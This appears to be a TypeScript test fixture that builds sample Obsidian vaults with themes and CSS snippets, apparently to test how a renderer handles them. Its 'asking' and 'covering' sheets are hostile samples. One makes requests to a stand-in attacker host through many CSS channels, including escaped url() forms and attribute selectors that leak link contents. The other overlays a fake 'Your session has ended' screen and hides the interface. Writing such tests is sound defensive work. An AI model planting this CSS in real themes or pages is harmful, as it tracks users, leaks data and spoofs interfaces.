import type { Files } from './zips';
import { ENEMY } from './attacks';

/** A note with something for each of the snippets below. */
const specimen = [
  '# First heading',
  '',
  '## Second heading',
  '',
  '### Third heading',
  '',
  'A #tag, a [[Other|link]] and **bold words**.',
  '',
  '> [!recipe] Bread',
  '> Flour, water, salt.',
  '',
  '> [!warning] Hot',
  '> The oven.',
  '',
  '> A quotation.',
  '',
  '- [!] important',
  '- [?] unsure',
  '- [x] done',
  '- [ ] open',
  '',
].join('\n');

const callouts = `/* Callouts for the kitchen */
.callout[data-callout="recipe"] {
  --callout-color: 175, 60, 20;
  --callout-icon: lucide-flame;
}
.theme-dark .callout[data-callout="recipe"] {
  --callout-color: 255, 150, 90;
}
.callout[data-callout="warning"] {
  --callout-icon: lucide-unheard-of;
  border-left: 6px solid rgb(var(--callout-color));
}
.callout[data-callout="recipe"] .callout-title-inner::after {
  content: " · kitchen";
}
`;

const mark = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 24 24'%3E%3Cpath d='M10 2h4v13h-4zM10 18h4v4h-4z'/%3E%3C/svg%3E";
const disc = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="9"/></svg>').toString('base64')}`;

const checkboxes = `/* Checkboxes by the letter in them */
input[data-task="!"]:checked,
input[data-task="?"]:checked,
li[data-task="!"] > input:checked,
li[data-task="!"] > p > input:checked,
li[data-task="?"] > input:checked,
li[data-task="?"] > p > input:checked {
  --checkbox-marker-color: transparent;
  border: none;
  border-radius: 0;
  background-image: none;
  background-color: currentColor;
  -webkit-mask-size: 1.2em;
  -webkit-mask-position: 50% 50%;
  mask-repeat: no-repeat;
}
input[data-task="!"]:checked,
li[data-task="!"] > input:checked,
li[data-task="!"] > p > input:checked {
  color: #d65d0e;
  -webkit-mask-image: url("${mark}");
}
input[data-task="?"]:checked,
li[data-task="?"] > input:checked,
li[data-task="?"] > p > input:checked {
  color: #689d6a;
  -webkit-mask-image: url(${disc});
}
input[data-task="!"]:checked::after,
input[data-task="?"]:checked::after { display: none; }
li[data-task="!"] { font-weight: bold; }
.HyperMD-task-line[data-task="!"], .cm-s-obsidian .cm-formatting-task { color: red; }
`;

const headings = `/* @settings
name: Headings
id: headings
settings:
    - id: h1-color
      type: variable-themed-color
*/
:root { --heading-mark: "§ "; --third: rgb(80, 90, 100); }
body { --h1-color: rgb(143, 63, 113); --h3-color: var(--third); }
.theme-light { --h2-color: rgb(7, 102, 120); }
.theme-dark { --h2-color: rgb(131, 165, 152); }
body.theme-dark { --h1-color: rgb(211, 134, 155); }
.markdown-rendered h2 { border-bottom: 2px solid var(--h2-color); }
h3::before { content: var(--heading-mark); }
a.internal-link { color: rgb(10, 120, 60); }
.tag { background-color: rgb(250, 220, 140); color: rgb(60, 40, 0); border-radius: 4px; &:hover { text-decoration: underline; } }
.markdown-preview-view strong { --bold-color: rgb(150, 40, 20); color: var(--bold-color); }
.app-container .workspace-leaf-content[data-type="markdown"] .markdown-preview-view blockquote { border-inline-start-color: rgb(1, 2, 3); }
@media print { .callout { break-inside: avoid; } }
`;

/** A theme that changes what everything else is made of. */
const paper = `.theme-light {
  --background-primary: rgb(251, 246, 233);
  --text-normal: rgb(40, 30, 20);
}
.theme-dark {
  --background-primary: rgb(30, 28, 24);
  --text-normal: rgb(235, 225, 205);
}
body { --font-text: Georgia, "Times New Roman", serif; }
.workspace-ribbon, .nav-folder-title, .titlebar { background: red; }
`;

/** Style sheets that ask somebody for something, each in its own way. */
const asking = `@charset "utf-8";
@import url("${ENEMY}/import.css");
@import "${ENEMY}/import2.css";
@font-face { font-family: stolen; src: url("${ENEMY}/font.woff2"); }
p { font-family: stolen; }
@page { margin: 0; background: url("${ENEMY}/page.png"); }
html::after { content: url("${ENEMY}/after.png"); }
.a1 { background-image: url("${ENEMY}/p.png"), image-set("${ENEMY}/set.png" 1x); }
.a2 { background-image: -webkit-image-set(url("${ENEMY}/set2.png") 1x); }
.a3 { cursor: url(${ENEMY}/cursor.cur), auto; display: list-item; list-style-image: url('${ENEMY}/list.png'); }
.a4 { --u: url(${ENEMY}/variable.png); background: var(--u); border: 9px solid; border-image: url(${ENEMY}/border.png) 1; }
.a5 { background: u\\72l(${ENEMY}/escape.png); }
.a6 { background: \\75\\72\\6c("${ENEMY}/escape2.png"); }
.a7 { mask: url("${ENEMY}/mask.svg#m"); filter: url("${ENEMY}/filter.svg#f"); clip-path: url("${ENEMY}/clip.svg#c"); background: src("${ENEMY}/src.png"); }
.a8::before { content: url("${ENEMY}/content.png"); }
.a9 { float: left; shape-outside: url("${ENEMY}/shape.png"); }
a[href^="#/a"] { background: url("${ENEMY}/?a"); }
a[href*="e"] { background: url("${ENEMY}/?e"); }
p { background: url("demo.zip"); mask-image: url(icons/icon.svg); }
@media all { @supports (display: grid) { p { background: url("${ENEMY}/nested.png"); & b { background: url("${ENEMY}/inner.png"); } } } }
@layer x { body { background: url("${ENEMY}/layer.png"); } }
@scope (html) { :scope { border-image: url("${ENEMY}/scope.png"); } }
`;

/** Style sheets that would change or cover the page around the note. */
const covering = `@property --text-normal { syntax: "<color>"; inherits: false; initial-value: red; }
@font-face { font-family: Cantarell; src: local("Courier New"); }
@keyframes rise { from { transform: translateX(-4000px); } to { transform: translateX(-4000px); } }
@keyframes appear { from, to { opacity: 0; } }
:root { --x: 1; --text-normal: red; --explorer-width: 0px; font-size: 40px; }
html, body { display: block; overflow: visible; contain: none; }
body::before { content: "Your session has ended"; position: fixed; inset: 0; z-index: 2147483647; background: red; }
html::after { content: ""; position: fixed; inset: -9999px; z-index: 2147483647; background: red; }
body > *, html > *, body *:not(.vault-root) { outline: 3px solid rgb(1, 2, 3); }
* { letter-spacing: 3px; pointer-events: none; }
*::before, ::after { content: "x"; }
.app, .toasts, .explorer-column, .side-column, .view-header, main, dialog, [popover], button { display: none !important; }
.vault-root + *, .vault-root ~ *, :has(.vault-root), :not(.vault-root) { visibility: hidden !important; }
:is(html, .app) > :is(*, body) { opacity: 0 !important; }
.markdown-preview-view { position: fixed; inset: -9999px; z-index: 2147483647; background: black; pointer-events: auto; }
article::after { content: ""; position: absolute; inset: -9999px; z-index: 2147483647; background: red; }
} } } ) ] body { display: none } /* unclosed
`;

/** The same, to be shown that they are what they say. */
export const attacks = { asking, covering };

const appearance = (values: object): string => JSON.stringify(values);

/** A vault as somebody has it who has made Obsidian look otherwise. */
export function dressed(values: object = {}, sheets: Files = {}): Files {
  return {
    'Specimen.md': specimen,
    'Other.md': 'Another note.\n\n> [!recipe] Soup\n> Water.\n',
    '.obsidian/appearance.json': appearance({
      cssTheme: 'Paper',
      enabledCssSnippets: ['callouts', 'checkboxes', 'headings'],
      ...values,
    }),
    '.obsidian/themes/Paper/theme.css': paper,
    '.obsidian/themes/Paper/manifest.json': '{"name": "Paper"}',
    '.obsidian/snippets/callouts.css': callouts,
    '.obsidian/snippets/checkboxes.css': checkboxes,
    '.obsidian/snippets/headings.css': headings,
    '.obsidian/snippets/switched off.css': '* { color: red !important }',
    ...sheets,
  };
}

export function attacked(): Files {
  return dressed(
    { cssTheme: '', enabledCssSnippets: ['asking', 'covering'] },
    { '.obsidian/snippets/asking.css': `@namespace url("${ENEMY}/namespace");\n${asking}`, '.obsidian/snippets/covering.css': covering },
  );
}
